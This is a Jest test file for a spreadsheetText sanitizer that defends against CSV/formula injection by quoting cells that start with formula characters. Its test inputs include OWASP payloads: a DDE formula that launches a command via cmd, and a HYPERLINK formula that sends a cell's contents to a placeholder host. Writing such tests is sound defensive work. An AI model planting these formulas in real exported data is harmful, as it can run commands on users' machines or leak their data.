import { spreadsheetText } from './spreadsheet-text';

describe(spreadsheetText.name, () => {
  // The payloads of OWASP's CSV Injection page and its testing guide.
  it.each([
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/leak?x="&A1,"Click")',
    '+1+1',
    '-1+1',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1,1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '＋1+1',
    '－1+1',
    '＠SUM(1,1)',
  ])('should put a quote before %j and keep the rest as it is', (text) => {
    expect(spreadsheetText(text)).toBe(`'${text}`);
  });

  it.each(['青岛海湾智能装备有限公司', 'A=1', ' =1', "'=1", '', '1-2'])(
    'should leave %j alone',
    (text) => {
      expect(spreadsheetText(text)).toBe(text);
    },
  );
});
